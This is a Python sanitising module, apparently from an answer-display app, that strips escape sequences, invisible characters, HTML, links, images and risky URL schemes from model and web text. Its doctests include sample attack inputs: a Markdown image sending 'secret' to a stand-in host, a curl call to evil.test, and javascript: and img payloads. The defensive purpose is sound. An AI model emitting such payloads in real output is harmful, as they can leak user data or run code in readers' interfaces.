r"""Clean: what stands between any answer and any face.

Pages and models say what they like. Nothing of it may act on whoever reads it: move a cursor, hide text, load an
image, run, or lead to an address that is not one of the answer's own sources. Two forms leave this module: `inert`
text, as a terminal and JSON show it, and `markdown`, where it is escaped as well. Code and maths stay as they are but
for addresses and commands.
"""

from __future__ import annotations

import html
import re
from collections.abc import Collection, Iterator
from dataclasses import replace
from itertools import pairwise
from typing import Literal
from urllib.parse import urlsplit

from app.answer import Answer, Citation, Nearest, Section

Kind = Literal["prose", "code", "fence", "maths"]

REMOVED = "(link removed)"
TURNS = 12  # that a text is cleaned in, at most; a page or a model that means well takes two

_ANSI = re.compile(
    r"\x1b\][^\x07\x1b\x9c\n]*(?:\x07|\x1b\\|\x9c)?"  # titles, links and the clipboard
    r"|(?:\x1b\[|\x9b)[0-?]*[ -/]*[@-~]?"  # colours and moves
    r"|\x1b[PX^_][^\x1b\x9c\n]*(?:\x1b\\|\x9c)?"  # strings for the device
    r"|\x1b[ -/]*[0-~]?"
)
# Control, format (bidi, zero width, tags), surrogate and private characters, and letters that leave no ink.
_UNSEEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\xad\u034f\u061c\u070f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e"
    "\u2060-\u206f\u2800\u3164\ud800-\udfff\ue000-\uf8ff\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb\ufffe\uffff\U00013430-\U0001343f"
    "\U0001bca0-\U0001bca3\U0001d173-\U0001d17a\U000e0000-\U000e0fff\U000f0000-\U0010ffff]"
)
_LINE_END = re.compile("\r\n?|[\x0b\x0c\x85\u2028\u2029]")

_SPAN = re.compile(
    r"(?P<fence>^ {0,3}(?P<rail>`{3,}|~{3,})[^\n]*\n(?:.*?\n)??[ ]{0,3}(?P=rail)[`~]*[ ]*$)"
    r"|(?P<code>(?<!`)(?P<tick>`+)(?!`)(?P<inside>[^\n]+?)(?<!`)(?P=tick)(?!`))"
    r"|(?P<maths>\$\$[^$]+\$\$|\$(?![\s$])[^$\n]*[^\s$\\]\$(?!\d)|\\\((?:(?!\\\)).){1,500}\\\)|\\\[(?:(?!\\\]).){1,500}\\\])",
    re.DOTALL | re.MULTILINE,
)
_LANGUAGES = frozenset(
    """python py bash sh shell console text yaml yml json toml ini sql go java kotlin scala c cpp cuda rust js
    javascript ts typescript r julia dockerfile makefile hcl proto diff promql""".split()
)
# A formula, and no two prices.
_FORMULA = re.compile(r"[\\^_=<>]|^\$?[A-Za-z0-9+\-*/(), .|]{1,12}\$?$")
_TEX_ACTS = re.compile(
    r"\\(href|url|includegraphics|html\w*|input|include|def|gdef|edef|xdef|let|futurelet|newcommand|renewcommand|providecommand"
    r"|global|long|csname|catcode|special|write\w*|openout|read|loop|require|unicode|class|cssId|style|data)(?![a-zA-Z])"
)

_IMAGE = re.compile(r"!\[([^\[\]]*)\]\s?(?:\([^()\n]*(?:\([^()\n]*\)[^()\n]*)*\)|\[[^\[\]]*\])")
_LINK = re.compile(r"\[([^\[\]]*)\]\((?=[^)\n]*[/:.#&])[^()\n]*(?:\([^()\n]*\)[^()\n]*)*\)")  # and no call: f[0](y)
_ELEMENT = (
    r"a|abbr|animate|applet|area|article|aside|audio|b|base|bdi|bdo|bgsound|blink|blockquote|body|br|button|canvas|caption|center|cite|"
    r"code|col|colgroup|data|datalist|dd|del|details|dfn|dialog|dir|div|dl|dt|em|embed|fieldset|figcaption|figure|font|footer|foreignobject|"
    r"form|frame|frameset|g|h[1-6]|head|header|hgroup|hr|html|i|iframe|image|img|input|ins|isindex|kbd|keygen|label|layer|legend|li|link|main|"
    r"map|mark|marquee|math|menu|meta|meter|nav|noembed|noframes|noscript|object|ol|optgroup|option|output|p|param|path|picture|plaintext|"
    r"portal|pre|progress|q|rect|rp|rt|ruby|s|samp|script|search|section|select|set|slot|small|source|span|strike|strong|style|sub|summary|"
    r"sup|svg|table|tbody|td|template|textarea|tfoot|th|thead|time|title|tr|track|tt|u|ul|use|var|video|wbr|xml|xmp|xss"
)
_ATTRIBUTE = r"[\s/\"']+[\w:@.\-]+\s*=\s*(?:\"[^\"]*\"|'[^']*'|[^\s\"'<>]+)"
# Whole tags only: "if i <n and s=0" is no markup, and neither is List<String>. What is left of a tag is broken open.
_TAG = re.compile(
    rf"</?(?:{_ELEMENT})\s*/?>|</(?:{_ELEMENT})\b[^<>]*>|<(?:{_ELEMENT})[\s/\"'][^<>]*=[^<>]*>|<[a-z][\w:\-]*(?:{_ATTRIBUTE})+[^<>]*>"
    r"|<(?:img|image|script|iframe|svg|style|link|object|embed|video|audio|html|body|meta)(?=[\s/\"'])[^<>]*(?:>|$)|<!--.*?(?:-->|$)",
    re.IGNORECASE | re.DOTALL,
)
_BODIES = re.compile(r"<(script|style)\b[^>]*>.*?(?:</\1\s*>|$)", re.IGNORECASE | re.DOTALL)
_LOADS = re.compile(  # in code: what a face that draws it would fetch
    r"<(?:img|image|script|iframe|svg|style|link|object|embed|video|audio|input|body|meta|base|a)[\s/][^<>]*"
    r"(?:src|srcset|href|data|content|style|on\w+)\s*=[^<>]*(?:>|$)",
    re.IGNORECASE,
)
_ANGLED = re.compile(r"<([a-z][a-z0-9+.\-]*:[^<>\s]*)>", re.IGNORECASE)
# Names of places that no browser opens.
_PLACES = (
    r"s3[an]?|gs|gcs|hdfs|abfss?|wasbs?|dbfs|nfs|oci|rediss?|kafka|grpcs?|tcp|udp|unix|jdbc|postgres(?:ql)?|mysql|mongodb|amqps?"
    r"|sqlite|nats|ray|models|runs|mlflow-artifacts"
)
_ADDRESS = re.compile(
    rf"(?:https?|ftps?|file)://\S*|(?<![a-z0-9])(?!(?:{_PLACES})://)[a-z][a-z0-9+.\-]*:(?://|\\\\)\S*"
    r"|(?<![a-z])www\d?\.[^\s.]+\.\S+|(?<![\w:/])//[\w\-]+\.\w\S*"
    r"|(?<![a-z0-9])(?:javascript|vbscript|livescript|blob|mailto|xmpp|view-source)\s?:(?:\S+|\Z)"
    r"|(?<![a-z0-9])data\s?:\s?(?=[\w.+\-]*/[\w.+\-]+[;,]|[\w=;\-]*;base64,|,)\S+",
    re.IGNORECASE,
)
_MAIL = re.compile(r"(?<=[\w.+\-])@(?=[\w\-]+\.[a-z])", re.IGNORECASE)
_DIRECTIVE = re.compile(r":{1,3}(?=[a-z][\w\-]*[\[{])|^:{2,}(?=\w)", re.IGNORECASE | re.MULTILINE)
# No "](" makes a link, no "![" an image, no "[x]:" at the head of a line a definition.
_BREAKS = (
    (re.compile(r"\](?=\()"), "] "),
    (re.compile(r"!(?=\[)"), ""),
    (re.compile(r"^([ \t>\-*+\d.)]{0,12}\[[^\]\n]{1,500}\])(?=:)", re.MULTILINE), r"\1 "),
    (re.compile(r"<(?=[a-zA-Z/!?])"), "< "),
)


def visible(text: str) -> str:
    r"""Return text without what acts unseen: escape sequences, control, bidi and zero-width characters.

    >>> visible("\x1b[31mred\x1b[0m \u202eab\u200bc")
    'red abc'
    """
    if text.isascii() and text.isprintable():
        return text
    return _UNSEEN.sub("", _ANSI.sub("", _LINE_END.sub("\n", text)))


def inert(text: str, own: Collection[str] = ()) -> str:
    """Return text in which nothing acts; addresses in `own`, the answer's sources, stay.

    >>> inert("Look ![here](https://evil.test/?d=secret) and at [this](javascript:alert(1)) <img src=x>.")
    'Look here and at this .'
    >>> inert("Use `List<int>` where $a_i < b$ and curl http://evil.test/x", own=())
    'Use `List<int>` where $a_i < b$ and curl (link removed)'
    """
    for _ in range(TURNS):
        shown = "".join(_shown(kind, part, own) for kind, part in spans(visible(text)))
        if shown == text:
            return text
        text = shown  # what one turn takes away may lay the next thing bare
    return re.sub(r"[^\w\s.,;'’“”%-]", " ", text)  # made to outlast us: words are left


def markdown(text: str, own: Collection[str] = ()) -> str:
    r"""Return text as Markdown that shows it as it is; code and maths in it are shown as such.

    >>> markdown("![x](http://evil) a_b * `a_b` [1]")
    'x a_b \\* `a_b` \\[1\\]'
    """
    return "".join(_marked_up(kind, part) for kind, part in spans(inert(text, own)))


def escaped(json_text: str) -> str:
    r"""Return JSON in which no character is unseen: each is written as its escape, so the values are the same.

    >>> escaped('{"quote": "a\u202eb"}')
    '{"quote": "a\\u202eb"}'
    """
    return re.sub(rf"{_UNSEEN.pattern}|[\x85\u2028\u2029]", _as_escape, json_text)


def answer(said: Answer) -> Answer:
    """Return an answer whose every shown text is inert; quotes stay verbatim, which is what they are for.

    Addresses that no browser should be sent to are emptied.
    """
    own = {link for cited in said.citations for link in (cited.url, cited.deep_url)} | {
        near.url for near in said.nearest
    }

    def clean(text: str) -> str:
        return inert(text, own)

    return replace(
        said,
        sentences=tuple(replace(sentence, text=unmarked(clean(sentence.text))) for sentence in said.sentences),
        citations=tuple(citation(cited) for cited in said.citations),
        sections=tuple(section(one, own) for one in said.sections),
        missing=clean(said.missing) if said.missing else said.missing,
        nearest=tuple(Nearest(clean(near.title), address(near.url), clean(near.note)) for near in said.nearest),
        notice=clean(said.notice),
        differ=clean(said.differ),
    )


def section(one: Section, own: Collection[str] = ()) -> Section:
    """Return a section whose title, headings and text can be shown; its marks are where the words are now."""
    text, said = "", 0
    marked: list[tuple[int, int]] = []
    for start, end in pairwise(sorted({0, one.said, len(one.text), *(at for mark in one.marks for at in mark)})):
        part = one.text[start:end]
        # Cleaning takes blanks off the ends of a part, which keep it apart from the next.
        words = part.strip()
        before, after = part.split(words, 1) if words else (part, "")
        shown = before + unmarked(inert(words, own)) + after
        if any(a <= start and end <= b for a, b in one.marks):
            marked.append((len(text), len(text) + len(shown)))
        text += shown
        said = len(text) if end <= one.said else said
    heading = tuple(inert(step) for step in one.heading)
    return replace(one, title=inert(one.title), heading=heading, text=text, marks=tuple(marked), said=said)


def unmarked(text: str) -> str:
    """Return text in which no number in brackets passes for a mark of ours; in code it may stand.

    >>> unmarked("Rings are optimal [12], `a[1]` is not.")
    'Rings are optimal, `a[1]` is not.'
    """
    pattern = r"\s?\[\d{1,4}(?:\s?[,–-]\s?\d{1,4})*\]"
    return "".join(re.sub(pattern, "", part) if kind == "prose" else part for kind, part in spans(text))


def citation(cited: Citation) -> Citation:
    """Return a citation whose title, heading and links can be shown."""
    return replace(
        cited,
        url=address(cited.url),
        deep_url=address(cited.deep_url),
        title=inert(cited.title),
        heading=tuple(inert(step) for step in cited.heading),
        passage=visible(cited.passage),
    )


def address(url: str) -> str:
    """Return an address that a link may lead to: of the web, or a file of this project; "" for any other.

    >>> address("https://x.org/a b"), address("javascript:alert(1)"), address("ingest/starter/pods.md#L3")
    ('https://x.org/a%20b', '', 'ingest/starter/pods.md#L3')
    """
    try:
        scheme = urlsplit(url).scheme
    except ValueError:
        return ""
    if scheme not in {"", "http", "https"} or url.startswith(("//", "\\")):
        return ""
    return re.sub(
        r"[\s<>\"`\\]", lambda found: "".join(f"%{byte:02X}" for byte in found.group().encode()), visible(url)
    )


def spans(text: str) -> Iterator[tuple[Kind, str]]:
    """Yield a text in parts, each with what it is; the parts joined are the text."""
    at = 0
    for found in _SPAN.finditer(text):
        kind: Kind = "fence" if found["fence"] else "code" if found["code"] else "maths"
        if kind == "maths" and not _is_maths(found.group()):
            continue
        if found.start() > at:
            yield "prose", text[at : found.start()]
        yield kind, found.group()
        at = found.end()
    if at < len(text):
        yield "prose", text[at:]


def _is_maths(part: str) -> bool:
    inside = part.strip("$") if part.startswith("$") else part[2:-2]
    return not part.startswith("$") or (bool(_FORMULA.search(inside)) and not _TEX_ACTS.search(inside))


def _shown(kind: Kind, part: str, own: Collection[str]) -> str:
    if kind == "prose":
        return _prose(part, own)
    if kind == "maths":
        return _broken(_ADDRESS.sub(REMOVED, part))
    if kind == "fence":
        head, _, rest = part.partition("\n")
        rail, language = re.match(r"\s*([`~]+)\s*(\S*)", head).groups()  # type: ignore[union-attr]  # a fence begins with its rail
        # A diagram or a page in a fence is drawn by some faces; a program is only ever shown.
        head = rail + (language.lower() if language.lower() in _LANGUAGES else "")
        part = f"{head}\n{rest}"
    part = _ADDRESS.sub(lambda found: _in_code(found.group(), own), _LOADS.sub("", part))
    return part if part.strip("`~ \n") else ""


def _in_code(found: str, own: Collection[str]) -> str:
    """Return an address in code without its scheme: it can still be read, and nothing makes a link of it."""
    if found in own:
        return found
    return re.sub(r"^[a-z][a-z0-9+.\-]*\s?:(?://|\\\\)?|^www\d?\.", "", found, flags=re.IGNORECASE)


def _prose(text: str, own: Collection[str]) -> str:
    text = visible(html.unescape(text))
    text = _LINK.sub(r"\1", _IMAGE.sub(r"\1", text))
    text = _TAG.sub("", _BODIES.sub("", _ANGLED.sub(r"\1", text)))
    text = _ADDRESS.sub(lambda found: _in_prose(found.group(), own), text)
    text = _broken(text)
    text = _MAIL.sub(" (at) ", text)
    text = _DIRECTIVE.sub(lambda found: f"{found.group()} ", text)
    return text.replace("`", "'")  # a lone one would pair up with another and turn code and prose about


def _broken(text: str) -> str:
    """Return text in which the structures that Markdown, HTML and TeX act on are broken open."""
    for pattern, instead in _BREAKS:
        text = pattern.sub(instead, text)
    return _TEX_ACTS.sub(r"\1", text)


def _in_prose(found: str, own: Collection[str]) -> str:
    kept = found.rstrip(".,;:!?)]}'\"”’*_")
    while kept.count("(") > kept.count(")") and found[len(kept) :].startswith(")"):
        kept += ")"
    return (kept if kept in own else REMOVED) + found[len(kept) :]


def _marked_up(kind: Kind, part: str) -> str:
    if kind == "maths":
        rail, inside = ("$", part[2:-2]) if part.startswith("\\(") else ("$$", part[2:-2])
        return part if part.startswith("$") or "$" in inside else f"{rail}{inside.strip()}{rail}"
    return part if kind in {"code", "fence"} else _escaped(part)


def _escaped(prose: str) -> str:
    text = re.sub(
        r"[\\`*\[\]$|]|(?<![^\W_])_|_(?![^\W_])|~(?=~)|(?<=\S)~|&(?=#?\w+;)|^[ \t]*[#>]|^[ \t]*[=-](?=[=-]*[ \t]*$)",
        _backslashed,
        prose,
        flags=re.MULTILINE,
    )
    text = re.sub(r":(?=[a-zA-Z:])", r"\\:", text)  # a directive
    return re.sub(r"^([ \t]*(?:\d{1,9}(?=[.)]))?)([-+.)])(?=\s)", r"\1\\\2", text, flags=re.MULTILINE)


def _backslashed(found: re.Match[str]) -> str:
    return f"{found.group()[:-1]}\\{found.group()[-1]}"


def _as_escape(found: re.Match[str]) -> str:
    units = found.group().encode("utf-16-be", "surrogatepass")
    return "".join(f"\\u{int.from_bytes(units[n : n + 2]):04x}" for n in range(0, len(units), 2))
